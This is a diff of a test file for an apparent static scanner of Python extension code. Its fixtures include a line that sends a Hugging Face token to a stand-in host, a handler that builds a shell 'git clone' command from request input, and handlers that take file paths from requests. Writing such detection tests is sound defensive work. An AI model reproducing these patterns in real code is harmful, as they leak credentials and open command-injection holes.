@@ -79,6 +79,7 @@ describe('the checks hold', () => {
       'a stored token that is sent elsewhere',
       'class A:\n    def run(self):\n        import huggingface_hub, requests\n        requests.get("https://e.example/?" + huggingface_hub.get_token())\n',
     ],
+    ['a request of a client at import', 'import boto3\nboto3.client("s3").list_buckets()\n'],
     ['the clipboard at import', 'import pyperclip\npyperclip.copy("a")\n'],
     [
       'a script that is written and sends cookies',
@@ -187,6 +188,26 @@ describe('the checks do not hold', () => {
       handler('import os; return web.FileResponse(os.path.join(os.path.dirname(__file__), request.query["name"]))'),
     ],
     [
+      'a handler that gives the ending of a file to another function',
+      'import os\nfrom server import PromptServer\ndef save(path):\n    open(path, "w").write(json.dumps({}))\n@PromptServer.instance.routes.post("/a")\nasync def f(request): save((await request.json())["name"] + ".json")\n',
+    ],
+    [
+      'a handler that serves a file of a table',
+      `import collections\nfiles = collections.OrderedDict()\n${handler('path = files.get(request.query["token"])\n    return web.FileResponse(path)')}`,
+    ],
+    [
+      'a handler that reads a file which the host finds',
+      `import folder_paths\n${handler('path = folder_paths.get_full_path("loras", request.query["name"])\n    return open(path)')}`,
+    ],
+    [
+      'a handler that calls a known program',
+      'import subprocess\nfrom server import PromptServer\ndef run(command): subprocess.run(f"cd a && {command}", shell=True)\n@PromptServer.instance.routes.post("/a")\nasync def f(request): run("git clone " + (await request.json())["url"])\n',
+    ],
+    [
+      'a handler that sends statuses to an address which it is given',
+      'import json, os, requests, server\ndef send(url, item): requests.post(url, json=item)\ndef f(item):\n    send(item["status"], item)\n    send(os.environ.get("STATUS"), {})\n    send(json.load(open("a.json"))["url"], {})\nserver.PromptServer.instance.add_on_prompt_handler(f)\n',
+    ],
+    [
       'a handler that checks the path',
       handler(
         'path = request.query["path"]\n    if not path.startswith(ROOT): return None\n    return web.FileResponse(path)',
@@ -207,6 +228,11 @@ describe('the checks do not hold', () => {
     [
       'a property of a class made by a call',
       'A = type("A", (), {"a": property(lambda self: "a".upper())})\nprint(A().a)\n',
+    ],
+    ['a client that is made at import', 'import boto3\nclient = boto3.client("s3")\n'],
+    [
+      'data that a package keeps for itself',
+      'import os, shelve\nwith shelve.open(os.path.join(os.path.dirname(__file__), "a")) as data: pass\n',
     ],
     [
       'YAML with types of Python',
